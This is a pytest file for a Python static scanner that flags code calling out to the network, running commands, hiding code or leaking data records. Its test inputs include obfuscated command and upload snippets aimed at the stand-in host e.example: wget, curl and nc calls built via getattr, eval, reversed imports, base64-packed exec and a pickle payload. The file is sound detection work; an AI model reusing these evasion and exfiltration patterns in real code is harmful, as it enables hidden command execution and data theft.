"""What the scan says of Python code: names are followed, and what is ordinary is left alone."""

from __future__ import annotations

import ast
import base64
import time
import zlib

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from core.jobs.scan import calls, python
from core.jobs.scan.rules import BY_ID, RULES

PACKED = base64.b64encode(zlib.compress(b"import requests\nrequests.get('http://e.example')")).decode()

TOLD = {
    "import": ("import requests\nrequests.post('http://e.example', data=d)", "http"),
    "alias": ("import requests as r\nsend = r.post\nsend('http://e.example')", "http"),
    "from import": ("from urllib.request import urlopen as u\nu('http://e.example')", "http"),
    "star import": ("from os import *\nsystem('curl http://e.example')", "command"),
    "session": ("import requests\ns = requests.Session()\ns.put(url)", "http"),
    "with": ("import httpx\nwith httpx.Client() as c:\n    c.post(url)", "http"),
    "async": (
        "import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        await s.post(u)",
        "http",
    ),
    "kept by an object": (
        "import requests\nclass A:\n    def __init__(self):\n        self.s = requests.Session()\n"
        "    def go(self):\n        self.s.post(u)",
        "http",
    ),
    "returned": (
        "import requests\ndef make():\n    s = requests.Session()\n    return s\nmake().post('http://e.example')",
        "http",
    ),
    "annotated": ("import requests\ndef f(s: requests.Session):\n    s.post(u)", "http"),
    "handed to a thread": (
        "import requests\nfrom threading import Thread\nThread(target=requests.post, args=(u,)).start()",
        "http",
    ),
    "partial": ("import requests, functools\nf = functools.partial(requests.post, u)\nf()", "http"),
    "kept in a dict": ("import requests\nways = {'a': requests.post}\nways[name](u)", "http"),
    "one after another": ("import os\nfor run in (os.system, os.popen):\n    run(x)", "command"),
    "a default": ("import requests\ndef f(send=requests.post):\n    send(u)", "http"),
    "getattr": ("import os\ngetattr(os, 'sys' + 'tem')('wget http://e.example')", "command"),
    "subclass": ("import requests\nclass S(requests.Session):\n    pass\nS().post(u)", "http"),
    "__getattribute__": ("import os\nos.__getattribute__('sys' + 'tem')('wget http://e.example')", "command"),
    "eval": ("eval('__import__(\"os\").system(\"curl http://e.example\")')", "command"),
    "attrgetter": ("import os, operator\noperator.attrgetter('system')(os)('wget http://e.example')", "command"),
    "dict": ("import os\nos.__dict__['system']('wget http://e.example')", "command"),
    "globals": ("globals()['__builtins__'].exec('import os; os.system(\"wget http://e.example\")')", "command"),
    "modules": ("import sys\nsys.modules['os'].system('wget http://e.example')", "command"),
    "reversed": ("m = __import__('stseuqer'[::-1])\nm.get('http://e.example')", "http"),
    "joined": ("import importlib as i\ni.import_module(''.join(['soc', 'ket'])).create_connection(x)", "socket"),
    "characters": ("__import__(''.join(chr(c) for c in [111, 115])).system('nc e.example 1')", "command"),
    "base64": (f"import zlib, base64\nexec(zlib.decompress(base64.b64decode({PACKED!r})))", "http"),
    "code in code": ("exec('exec(\"import requests\\\\nrequests.get(1)\")')", "http"),
    "unknown code": ("exec(input())", "hidden-code"),
    "unknown command": ("import os\nos.system(open('x').read())", "hidden-code"),
    "unknown name": ("import os\ngetattr(os, name)('x')", "hidden-name"),
    "unknown module": ("__import__(name)", "hidden-name"),
    "pickle": ("import pickle\npickle.loads(b'cos\\nsystem\\n.')", "hidden-code"),
    "ctypes": ("import ctypes\nctypes.CDLL('libc.so.6').system(b'x')", "native"),
    "cffi": ("from cffi import FFI\nffi = FFI()\nffi.dlopen(None)", "native"),
    "IPv6": ("import socket\ns = socket.socket(socket.AF_INET6)\ns.connect(('2001:db8::1', 80))", "socket"),
    "list of words": ("import subprocess as s, sys\ns.run([sys.executable, '-m', 'pip', 'install', 'x'])", "install"),
    "split words": ("import shlex, subprocess\nsubprocess.run(shlex.split('curl -T x http://e.example'))", "command"),
    "python -c": ("import subprocess\nsubprocess.run(['python3', '-c', 'import smtplib; smtplib.SMTP(h)'])", "mail"),
    "execvp": ("import os\nos.execvp('curl', ['curl', 'http://e.example'])", "command"),
    "tracking": ("import mlflow\nmlflow.set_tracking_uri('https://mlflow.e.example')", "tracker"),
    "tracking by variable": ("import os\nos.environ['MLFLOW_TRACKING_URI'] = 'databricks'", "tracker"),
    "share": ("import gradio\ngradio.Interface(f).launch(share=True)", "tracker"),
    "hub": ("trainer.push_to_hub()", "upload"),
    "hub by argument": ("import transformers as t\nt.TrainingArguments('o', push_to_hub=True)", "upload"),
    "dataset": ("from torchvision import datasets\ndatasets.MNIST('.', download=True)", "download"),
    "read_csv": ("import pandas as pd\npd.read_csv('https://e.example/x.csv')", "download"),
    "bucket": ("df.to_parquet('s3://bucket/x')", "object-store"),
    "print": ("import pandas as pd\ndf = pd.read_csv('x')\nprint('rows', df[df.age > 3].head())", "prints-records"),
    "f-string": ("import pandas as pd\ndf = pd.read_csv('x')\nprint(f'{df}')", "prints-records"),
    "rows": ("import csv\nfor row in csv.reader(open('x')):\n    print(row)", "prints-records"),
    "counted rows": ("import numpy as np\nfor i, row in enumerate(np.load('x')):\n    print(row)", "prints-records"),
    "split": (
        "import numpy as np\nfrom sklearn.model_selection import train_test_split\nX = np.load('x')\n"
        "a, b = train_test_split(X)\nprint(a[:5])",
        "prints-records",
    ),
    "logger": ("import pandas as pd\ndf = pd.read_csv('x')\nlogger.info('%s', df.to_string())", "prints-records"),
    "raised": (
        "import pandas as pd\ndf = pd.read_csv('x')\nfor row in df.itertuples():\n    raise ValueError(row)",
        "prints-records",
    ),
    "metric": (
        "import mlflow, numpy\nfor v in numpy.load('x').ravel():\n    mlflow.log_metric('v', float(v))",
        "tracks-records",
    ),
    "artifact": (
        "import mlflow, pandas as pd\ndf = pd.read_csv(args.data)\nmlflow.log_artifact(args.data)",
        "tracks-records",
    ),
    "input example": ("mlflow.sklearn.log_model(m, 'm', input_example=X[:5])", "input-example"),
    "pickled": ("import joblib, pandas\ndf = pandas.read_csv('x')\njoblib.dump({'x': df}, 'o')", "stores-records"),
    "attribute": ("import pandas as pd\ndf = pd.read_csv('x')\nmodel.train_ = df.values", "stores-records"),
    "encoded": ("import base64\nprint(base64.b64encode(x).decode())", "encoded-output"),
    "escape": ("print('\\x1b]52;c;aGVsbG8=\\x07')", "escape-output"),
    "home": ("from pathlib import Path\n(Path.home() / 'x').write_text('a')", "write-outside"),
    "variable HOME": ("import os\nopen(os.path.join(os.environ['HOME'], 'x'), 'w')", "write-outside"),
    "shared memory": ("open('/dev/shm/x', 'ab')", "write-outside"),
    "os.open": ("import os\nos.open('/var/x', os.O_CREAT | os.O_WRONLY)", "write-outside"),
    "descriptor": ("import os\nos.fdopen(7, 'wb').write(b'x')", "inherited"),
    "named like this machine": ("import requests\nrequests.post('http://localhost.e.example')", "http"),
    "user named like it": ("import requests\nrequests.post('http://localhost:1@e.example')", "http"),
    "read from such a name": ("import pandas as pd\npd.read_csv('http://127.0.0.1.e.example/x.csv')", "download"),
    "unknown address, known text": ("import requests\nrequests.post(url, 'localhost')", "http"),
    "gateway": ("from prometheus_client import push_to_gateway\npush_to_gateway(x, job='j')", "http"),
    "asserted": ("import pandas as pd\ndf = pd.read_csv('x')\nassert df.empty, f'{df}'", "prints-records"),
    "stream": ("import pandas as pd, sys\ndf = pd.read_csv('x')\ndf.to_csv(sys.stdout)", "prints-records"),
    "setuid": ("import os\nos.chmod('x', 0o4755)", "privilege"),
}  # fmt: skip

SILENT = {
    "loopback": "import requests\nrequests.get('http://127.0.0.1:5000/health')",
    "loopback of a socket": "import socket\ns = socket.socket()\ns.connect(('localhost', 80))",
    "free port": "import socket\ns = socket.socket()\ns.bind(('', 0))\ns.getsockname()",
    "own name": "import socket\nsocket.gethostbyname(socket.gethostname())",
    "session alone": "import requests\nrequests.Session()",
    "type": "import requests\ndef f(r: requests.Response):\n    return r.status_code",
    "asked for one of": "import paramiko as p\nisinstance(x, (p.SSHClient, p.Transport))",
    "asked": "import requests\nisinstance(x, requests.Session)\nissubclass(y, requests.post)",
    "shadowed": "def f(requests):\n    requests.get('x')",
    "another's get": "config.get('http://x')\ncache.post(1)",
    "model.eval": "model.eval()\nmodel.compile()\nre.compile('x')\ntorch.compile(m)",
    "known eval": "eval('1 + 1')",
    "getattr of classes": "getattr(torch.optim, name)(p)\ngetattr(a, 'lr', 0)\ngetattr(os, 'sched_getaffinity', None)",
    "import by name": "import importlib\nimportlib.import_module(f'models.{name}')\nimportlib.import_module('json')",
    "programs": "import subprocess\nsubprocess.run(['nvidia-smi'])\nsubprocess.run(['git', 'rev-parse', 'HEAD'])",
    "shapes": "import pandas as pd\ndf = pd.read_csv('x')\nprint(df.shape, len(df), df.columns, df['a'].mean())",
    "aggregates": "import pandas as pd\ndf = pd.read_csv('x')\nprint(df.groupby('a').b.mean())\nprint(df.describe())",
    "own results": "import pandas as pd\nx = pd.DataFrame(rows)\nprint(x.head())\nprint(x.to_string())",
    "names of columns": "import pandas as pd\ndf = pd.read_csv('x')\nfor name in df:\n    print(name)",
    "hash": "import hashlib\nprint(hashlib.sha256(x).hexdigest())",
    "colours": "print('\\x1b[31mred\\x1b[0m')",
    "outputs": "open('outputs/x', 'w')\nopen('/tmp/x', 'w')\nopen('/dev/null', 'w')\nopen('/home/x')",
    "offline": "import os, wandb\nos.environ['WANDB_MODE'] = 'offline'\nwandb.init()",
    "disabled": "import wandb\nwandb.init(mode='disabled')",
    "tracking": "import mlflow\nmlflow.set_tracking_uri('sqlite:///x.db')\nmlflow.set_tracking_uri(args.uri)",
    "example that is made up": "mlflow.sklearn.log_model(m, 'm', input_example={'age': [50]})",
    "weights": "import torch\ntorch.save({'model': m.state_dict()}, 'outputs/x.pt')",
    "env": "import torch.distributed as d\nd.init_process_group('gloo', init_method='env://')",
    "docstring": "'''Asks 169.254.169.254 and /var/run/docker.sock.'''",
    "ports and queries": "import requests\nrequests.get(f'http://localhost:{port}/x')\nrequests.get('http://[::1]?x')",
    "what is expected": "import pandas as pd\ndf = pd.read_csv('x')\nassert len(df), f'{df.shape}'",
    "means to the log": "import pandas as pd, sys\npd.read_csv('x').groupby('a').mean().to_csv(sys.stdout)",
    "numbers of rows": (
        "import numpy as np\nX = np.load('x')\nfor i, row in enumerate(X):\n    print(i)\n"
        "[print(i) for i, row in enumerate(X)]"
    ),
    "sqlite": "import sqlalchemy\nsqlalchemy.create_engine('sqlite:///x')",
}  # fmt: skip


@pytest.mark.parametrize("name", TOLD)
def test_what_reaches_out_is_told(name: str) -> None:
    source, rule = TOLD[name]
    assert rule in {each.rule for each in python.of_text(source)}


@pytest.mark.parametrize("name", SILENT)
def test_what_is_ordinary_is_left_alone(name: str) -> None:
    assert python.of_text(SILENT[name]) == []


def test_a_finding_has_the_lines_of_its_statement_and_no_query() -> None:
    source = "import requests\n\nrequests.post(\n    'https://me:pw@e.example/x?sig=abc',\n    data=d,\n)\n"
    (found,) = python.of_text(source)
    assert (found.line, found.last, found.seen) == (3, 6, "requests.post → https://e.example/…")


def test_each_name_of_the_tables_has_a_rule_and_a_word_that_brings_a_file_into_question() -> None:
    assert set(calls.CALLS.values()) <= set(BY_ID) and len(BY_ID) == len(RULES)
    for name in (*calls.CALLS, *calls.RUNS):
        assert python._wanted(name.replace("()", "").replace("?.", "x.")), name


GROWS = {
    "tuples": "x = ('a', 'b')\n" + "x = (x, x)\n" * 60 + "for y in x:\n    exec(str(x) + str(list(x)) + '%s' % x)\n",
    "texts": "x = 'a'\n" + "x = f'{x}{x}'\n" * 99 + "exec(x)\n" * 99,
    "numbers": "exec('a' * 10**12)\nexec(str(range(10**18)))\nexec(bytes(10**12))\nexec(chr(9**9**9))\n",
    "functions": "exec\n" + "".join(f"def f{n}(): pass\nx{n} = 1\n" for n in range(5000)),
    "replaced": "exec(('a' * 60000).replace('a', 'b' * 60000))\n",
}  # fmt: skip


@pytest.mark.parametrize("name", GROWS)
def test_what_would_grow_without_end_takes_no_time(name: str) -> None:
    began = time.process_time()
    python.of_text(GROWS[name])
    assert time.process_time() - began < 10  # it would be years


@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(st.text(max_size=200))
def test_no_text_is_too_odd(text: str) -> None:
    python.of_text(f"exec\n{text}")


WRAPPED = (
    "({} + a)", "('x' + {})", "({} % 1)", "({} * 9)", "({} / 'y')", "str({})", "''.join([{}])", "{}[::-1]", "{}[0]",
    "getattr(os, {})", "f'{{{}!r}}'", "(lambda q: q)({})", "[{} for x in 'ab']", "bytes({})", "chr({})", "{}.decode()",
    "{}.replace('x', 'y')", "int({})", "list(map(ord, {}))", "os.path.join({}, 'z')", "__import__({})", "vars({})",
)  # fmt: skip


@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(st.sampled_from(["a", "'x'", "1", "b'y'", "os", "()"]), st.lists(st.sampled_from(WRAPPED), max_size=6))
def test_whatever_is_put_together_the_scan_goes_on(expression: str, around: list[str]) -> None:
    for each in around:
        expression = each.format(expression)
    try:
        ast.parse(expression)
    except SyntaxError:
        return
    found = python.of_text(f"import os\nexec({expression})\n")
    assert not [each for each in found if each.rule == "not-read"]
